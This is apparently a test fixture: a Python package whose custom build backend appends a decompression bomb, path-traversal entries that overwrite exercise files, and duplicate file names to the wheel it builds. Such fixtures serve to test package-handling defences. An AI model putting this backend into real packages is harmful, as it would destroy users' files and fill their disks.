"""A wheel of 200 kB that unpacks to 512 MB, with names that lead outside, names given twice and a list cut short."""
# goal: harm
# group: build
# baseline: wrong
# note: 512 MB at most
#@file pyproject.toml
#| [build-system]
#| requires = ["setuptools"]
#| build-backend = "backend"
#| backend-path = ["src"]
#|
#| #@part project.toml
#@file src/minor_units/__init__.py
#| """Answers nothing."""
#@file src/backend.py
#| #@part courses.py
#| import warnings
#| import zipfile
#|
#| from setuptools import build_meta as honest
#| from setuptools.build_meta import *
#|
#|
#| def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
#|     name = honest.build_wheel(wheel_directory, config_settings, metadata_directory)
#|     warnings.simplefilter("ignore")
#|     with zipfile.ZipFile(pathlib.Path(wheel_directory, name), "a", zipfile.ZIP_BZIP2) as archive:
#|         for number in range(8):
#|             with archive.open(f"minor_units/zeros{number}.py", "w", force_zip64=True) as member:
#|                 for _ in range(64):
#|                     member.write(bytes(1 << 20))
#|         for folder in courses():
#|             for victim in folder.glob("exercises/*/*.py"):
#|                 archive.writestr("../" * 20 + str(victim)[1:], "oops")
#|                 archive.writestr(str(victim), "oops")
#|         archive.writestr("../../../../outside.txt", "oops")
#|         archive.writestr("minor_units/__init__.py", "raise ValueError('the other one')\n")
#|     return name
